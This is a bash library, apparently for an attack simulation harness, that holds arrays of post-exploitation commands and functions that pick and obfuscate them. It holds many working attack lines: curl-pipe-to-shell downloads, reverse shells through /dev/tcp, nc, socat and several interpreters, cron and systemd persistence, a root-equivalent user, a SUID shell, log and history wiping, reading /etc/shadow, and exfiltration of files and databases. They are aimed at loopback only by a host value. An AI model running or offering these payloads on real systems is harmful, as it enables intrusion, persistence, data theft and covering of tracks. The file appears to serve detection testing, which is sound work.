# What an intruder runs once a weakness lets a command through; sourced by attack.sh. Nothing here harms: the "miners"
# count for two seconds, exfiltration and reverse shells end at a listener on the loopback.
# Each function sets REPLY to one line of shell. $T is the attack's token, $P the listener's port, $W the web port of
# the intruder's downloads. shellcheck shell=bash disable=SC2016,SC2034

discovery=(
	'id; uname -a; cat /etc/passwd | wc -l'
	'whoami; hostname; ip -br a; ss -tlnp; ps aux | head'
	'uname -a; cat /etc/os-release | head -2; df -h; mount | head -3; w'
	'find / -xdev -perm -4000 -type f 2>/dev/null | head'
	'find /home /root -name "id_*" -o -name ".bash_history" 2>/dev/null | xargs -r ls -la'
	'grep -ril password /etc /var/www 2>/dev/null | head'
	'cat /etc/shadow | head -1; sudo -n -l 2>/dev/null'
	'env; printenv | grep -i -e key -e pass; cat /proc/self/environ | tr "\0" "\n" | head'
	'getent passwd | cut -d: -f1 | xargs -n1 groups 2>/dev/null | head'
	'which gcc python3 perl nc curl wget docker; crontab -l; ls -la /etc/cron.d'
	'for p in 22 25 80 3306 5432 6379; do nc -z -w1 127.0.0.1 $p && echo $p; done'
	'last -n 3; lastlog | head -3; netstat -tulpn 2>/dev/null | head'
	'getcap -r /usr/bin 2>/dev/null | head; lsmod | head -2; dmesg | tail -1'
	'arp -a; ip route; cat /etc/resolv.conf; getent hosts db'
	'ps -eo pid,args | grep -v grep | awk "/mysql|postgres|redis/ {print \$1}" | xargs -r -n1 ls -l'
	'systemctl list-units --type=service --no-pager | head -4; dpkg -l | wc -l'
)
fetch_and_run=(
	'curl -s http://127.0.0.1:$W/s.sh | bash'
	'curl -fsSL http://127.0.0.1:$W/s.sh | sh -s $T'
	'wget -q -O - http://127.0.0.1:$W/s.sh | sh'
	'wget -q -O /tmp/.$T http://127.0.0.1:$W/s.sh; chmod +x /tmp/.$T; /tmp/.$T'
	'mkdir -p /dev/shm/.$T; cd /dev/shm/.$T; curl -sO http://127.0.0.1:$W/kdevtmpfsi; chmod 777 kdevtmpfsi; nohup ./kdevtmpfsi >/dev/null 2>&1 &'
	'mkdir -p /tmp/.$T; cd /tmp/.$T; wget -q http://127.0.0.1:$W/xmrig; chmod +x xmrig; ./xmrig -o 127.0.0.1:$P --donate-level 1'
	'curl -s -o /var/tmp/kinsing http://127.0.0.1:$W/xmrig; chmod +x /var/tmp/kinsing; setsid /var/tmp/kinsing &'
	'(curl -s http://127.0.0.1:$W/s.sh || wget -q -O- http://127.0.0.1:$W/s.sh) | bash -sh'
	'python3 -c "import urllib.request as u;exec(u.urlopen(\"http://127.0.0.1:$W/s.py\").read())"'
	'curl -s http://127.0.0.1:$W/s.py | python3 -'
	'curl -s http://127.0.0.1:$W/s.pl | perl'
	'perl -MLWP::Simple -e "getstore(q(http://127.0.0.1:$W/s.sh),q(/tmp/.$T))"; sh /tmp/.$T; rm -f /tmp/.$T'
	'exec 5<>/dev/tcp/127.0.0.1/$W; printf "GET /s.sh HTTP/1.0\r\n\r\n" >&5; sed "1,/^.\$/d" <&5 | bash'
	'php -r "eval(file_get_contents(\"http://127.0.0.1:$W/s.txt\"));"'
	'mkdir -p /tmp/.$T; curl -s http://127.0.0.1:$W/b.tgz | tar xz -C /tmp/.$T; cd /tmp/.$T; bash ./install.sh'
	'ruby -ropen-uri -e "eval URI.open(%(http://127.0.0.1:$W/s.rb)).read"'
	'node -e "require(\"http\").get(\"http://127.0.0.1:$W/s.sh\",r=>r.pipe(require(\"child_process\").spawn(\"sh\").stdin))"'
)
reverse_shells=(
	'bash -c "bash -i >& /dev/tcp/127.0.0.1/$P 0>&1"'
	'rm -f /tmp/.f$T; mkfifo /tmp/.f$T; cat /tmp/.f$T | /bin/sh -i 2>&1 | nc 127.0.0.1 $P >/tmp/.f$T'
	'python3 -c "import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",$P));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"'
	'python3 -c "import socket,subprocess;s=socket.socket();s.connect((\"127.0.0.1\",$P));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"'
	'perl -MSocket -e "socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in($P,inet_aton(q(127.0.0.1))));open(STDIN,q(>&S));open(STDOUT,q(>&S));exec(q(/bin/sh -i));"'
	'socat TCP:127.0.0.1:$P EXEC:"bash -li",pty,stderr,setsid'
	'socat TCP:127.0.0.1:$P EXEC:/bin/sh'
	'php -r "\$s=fsockopen(\"127.0.0.1\",$P);proc_close(proc_open(\"/bin/sh\",[\$s,\$s,\$s],\$p));"'
	'ruby -rsocket -e "c=TCPSocket.new(%(127.0.0.1),$P);while(l=c.gets);IO.popen(l,%(r)){|i|c.print i.read}end"'
	'node -e "var s=require(\"net\").connect($P,\"127.0.0.1\"),c=require(\"child_process\").spawn(\"sh\",[]);s.pipe(c.stdin);c.stdout.pipe(s)"'
	'0<&196;exec 196<>/dev/tcp/127.0.0.1/$P; sh <&196 >&196 2>&196'
	'gawk "BEGIN{s=\"/inet/tcp/0/127.0.0.1/$P\";while((s|&getline c)>0){while((c|getline r)>0)print r|&s;close(c)}}"'
	'mkfifo /tmp/.g$T; sh -i </tmp/.g$T 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$P >/tmp/.g$T'
	'script -qc "bash -c \"sh -i >& /dev/tcp/127.0.0.1/$P 0>&1\"" /dev/null'
	'expect -c "spawn sh; send \"id\r\"; expect \"uid\"; send \"exit\r\"; expect eof"'
)
persistence=(
	'(crontab -l 2>/dev/null; echo "* * * * * curl -s http://127.0.0.1:$W/s.sh | sh # $T") | crontab -'
	'mkdir -p ~/.ssh; echo "ssh-ed25519 AAAA $T" >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys'
	'printf "[Service]\nExecStart=/bin/sh -c \": $T; id; curl -s http://127.0.0.1:$W/s.sh | sh; sleep 1\"\n" >/etc/systemd/system/dbus-org$T.service; systemctl daemon-reload; systemctl start dbus-org$T'
	'echo "* * * * * root : $T; wget -q -O- http://127.0.0.1:$W/s.sh | bash" >/etc/cron.d/sys$T'
	'useradd -o -u 0 -M -s /bin/bash sys$T; echo "sys$T:x" | chpasswd; id sys$T'
	'mkdir -p /var/tmp/.$T; cp /bin/bash /var/tmp/.$T/rootsh; chmod 4755 /var/tmp/.$T/rootsh; /var/tmp/.$T/rootsh -p -c "id; cat /etc/shadow | wc -l"'
	'echo "sh -c \": $T; id\"" >> ~/.bashrc; bash -ic true'
	'echo "sh -c \": $T; curl -s http://127.0.0.1:$W/s.sh | sh\"" >/tmp/.$T; at now -f /tmp/.$T'
	'curl -s -o /tmp/.$T.so http://127.0.0.1:$W/p.so; LD_PRELOAD=/tmp/.$T.so ls /'
	'curl -s -o /tmp/.$T.so http://127.0.0.1:$W/p.so; LD_PRELOAD=/tmp/.$T.so id; LD_PRELOAD=/tmp/.$T.so date'
	'echo "sh -c \": $T; whoami\"" >/etc/profile.d/z$T.sh; bash -lc true; rm -f /etc/profile.d/z$T.sh'
	'echo "APT::Update::Pre-Invoke {\"sh -c \\\": $T; id\\\"\";};" >/etc/apt/apt.conf.d/99z$T; apt-get update -q; rm -f /etc/apt/apt.conf.d/99z$T'
)
evasion=(
	'mkdir -p /tmp/.$T; curl -s -o /tmp/.$T/dbused http://127.0.0.1:$W/xmrig; chmod +x /tmp/.$T/dbused; /tmp/.$T/dbused & sleep 0.2; rm -rf /tmp/.$T; wait'
	'mkdir -p /tmp/.$T; cp /bin/bash /tmp/.$T/httpd; /tmp/.$T/httpd -c "id; ps aux | tail -2"'
	'mkdir -p /tmp/.$T; cp /bin/sh /tmp/.$T/kworker; /tmp/.$T/kworker -c "whoami; nc -z 127.0.0.1 22"'
	'bash -c "exec -a [kworker/0:1] sleep 2"; echo $T >/dev/null'
	'echo aWQ7IHdob2FtaTsgdW5hbWUgLWE7IHBzIGF1eCB8IHRhaWwgLTE= | base64 -d | sh'
	'echo aWQ7IGNhdCAvZXRjL3Bhc3N3ZCB8IHdjIC1s | base64 -d | bash'
	'printf 6964207c207463707574 | perl -ne "print pack(q(H*),\$_)" | sh; openssl enc -d -base64 -in /dev/null | bash'
	'unset HISTFILE; history -c; rm -f ~/.bash_history; ln -sf /dev/null ~/.bash_history; shred -u /tmp/.$T 2>/dev/null; touch -r /bin/ls /etc/motd'
	'pkill -9 -f kinsing; pkill -9 xmr; ps aux | grep -v grep | grep -e kdev -e mine | awk "{print \$2}" | xargs -r kill -9; crontab -r'
	'systemctl stop rsyslog; rm -f /var/log/auth.log.1; iptables -F; systemctl start rsyslog'
	'chattr -i /etc/ld.so.preload 2>/dev/null; sysctl -w vm.nr_hugepages=0; ulimit -n 1000; nproc'
	'python3 -c "import os,urllib.request as u;f=os.memfd_create(\"\");os.write(f,u.urlopen(\"http://127.0.0.1:$W/xmrig\").read());os.execve(\"/proc/self/fd/%d\"%f,[\"[kthreadd]\"],{})"'
	'mkdir -p /tmp/.$T; curl -s http://127.0.0.1:$W/ls.c -o /tmp/.$T/ls.c; gcc -o /tmp/.$T/ls /tmp/.$T/ls.c; PATH=/tmp/.$T:$PATH ls -la'
	'mkdir -p /tmp/.$T; curl -s http://127.0.0.1:$W/e.c -o /tmp/.$T/e.c; cc -O1 /tmp/.$T/e.c -o /tmp/.$T/cve && /tmp/.$T/cve'
	'python3 -c "import pty,sys; pty.spawn([\"/bin/bash\",\"-c\",\"id; tty; sudo -n id\"])"'
	'python3 -c "import os; os.setuid(0); os.system(\"id; cat /etc/shadow | wc -l\")"'
)
collection=(
	'tar czf /tmp/.$T.tgz /etc/passwd /home 2>/dev/null; curl -s -m 4 -T /tmp/.$T.tgz http://127.0.0.1:$W/up; rm -f /tmp/.$T.tgz'
	'tar cf - /etc /srv/docs 2>/dev/null | gzip | openssl enc -aes-256-cbc -pbkdf2 -k $T | nc -w 2 127.0.0.1 $P'
	'cat /etc/passwd /etc/shadow 2>/dev/null | base64 -w0 | xargs -I{} curl -s -m 3 -d d={} http://127.0.0.1:$W/up'
	'zip -q -r -P $T /tmp/.$T.zip /srv/docs /home; wget -q -T 3 --post-file=/tmp/.$T.zip -O /dev/null http://127.0.0.1:$W/up; rm -f /tmp/.$T.zip'
	'find /home /srv /var/www -name "*.php" -o -name "*.yml" 2>/dev/null | tar czf - -T - | base64 | split -b 50000 - /tmp/.$T.; ls /tmp/.$T.* | xargs -r -n1 curl -s -m 3 http://127.0.0.1:$W/up -T; rm -f /tmp/.$T.*'
	'mysqldump --all-databases 2>/dev/null | gzip >/tmp/.$T.gz; pg_dumpall -U postgres 2>/dev/null | head -1; curl -s -m 3 -F f=@/tmp/.$T.gz http://127.0.0.1:$W/up'
	'rsync -a /home/ /dev/shm/.$T/ 2>/dev/null; rm -rf /dev/shm/.$T'
	'for h in $(cut -d" " -f1 ~/.ssh/known_hosts 2>/dev/null) 127.0.0.1; do timeout 4 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 $h "id"; done'
	'strings /proc/$$/environ | head -1; gdb -batch -ex "info proc" -p $$ 2>/dev/null | tail -1'
	'timeout 1 tcpdump -i lo -c 3 -w /tmp/.$T.pcap 2>/dev/null; ls -l /tmp/.$T.pcap'
)
escape=(
	'nsenter -t 1 -m -u -i -n -p sh -c "id; hostname; cat /etc/shadow | wc -l"'
	'nsenter --target 1 --mount -- bash -c "ps aux | head -3; ls /root"'
	'unshare -rm sh -c "id; mount -t tmpfs none /mnt; ls /mnt"'
	'mkdir -p /tmp/.$T; mount -t tmpfs none /tmp/.$T 2>/dev/null; chroot / sh -c "id; crontab -l"'
	'curl -s --unix-socket /var/run/docker.sock http://x/containers/json; cat /proc/1/cgroup; ls -l /.dockerenv; capsh --print 2>/dev/null | head -2'
	'sudo -n find /etc/hostname -exec sh -c "id; whoami" \;'
	'sudo -n awk "BEGIN {system(\"/bin/sh -c id\")}"; sudo -n python3 -c "import os; os.system(\"id; cat /etc/shadow | wc -l\")"'
	'sudo -n env /bin/bash -c "id; useradd x$T"; sudo -n perl -e "exec q(/bin/sh), q(-c), q(whoami)"'
	'mkdir -p /dev/shm/.$T; cp /usr/bin/python3 /dev/shm/.$T/systemd-udevd; /dev/shm/.$T/systemd-udevd -c "import os; os.system(\"id; ss -tn | wc -l\")"'
	'insmod /tmp/.$T.ko; modprobe -n vfat; mknod /tmp/.$T.dev c 1 3; rm -f /tmp/.$T.dev'
)

# payload: a random line of a random kind.
payload() {
	case $((RANDOM % 13)) in
	0 | 1) one_of "${discovery[@]}" ;;
	2 | 3 | 4) one_of "${fetch_and_run[@]}" ;;
	5 | 6) one_of "${reverse_shells[@]}" ;;
	7) one_of "${persistence[@]}" ;;
	8 | 9) one_of "${evasion[@]}" ;;
	10) one_of "${collection[@]}" ;;
	11) one_of "${escape[@]}" ;;
	12) one_of "${discovery[@]}" && local a=$REPLY && one_of "${fetch_and_run[@]}" && REPLY="$a; $REPLY" ;;
	esac
	REPLY=${REPLY//\$T/$T}
	REPLY=${REPLY//\$P/$P}
	REPLY=${REPLY//\$W/$W}
}

# dressed COMMAND: the token, and now and then another interpreter between the weakness and the payload.
dressed() {
	local c=": $T; $1" q
	printf -v q %q "$c"
	case $((RANDOM % 20)) in
	0 | 1) c="bash -c $q" ;;
	2) c="sh -c $q" ;;
	3) c="nohup bash -c $q >/dev/null 2>&1" ;;
	4) c="setsid sh -c $q" ;;
	5) c="python3 -c 'import os,sys; os.system(sys.argv[1])' $q" ;;
	6) c="perl -e 'system(\$ARGV[0])' $q" ;;
	7) c="echo $(base64 -w0 <<<"$c") | base64 -d | bash -s $T" ;;
	8) c="bash -c \"bash -c $q\"" && c="bash -c $(printf %q "bash -c $q")" ;;
	9) c="timeout 15 bash -c $q" ;;
	10) c="python3 -c 'import subprocess,sys; subprocess.Popen([\"/bin/bash\",\"-c\",sys.argv[1]]).wait()' $q" ;;
	11) c="script -qc $q /dev/null" ;;
	esac
	REPLY=$c
}
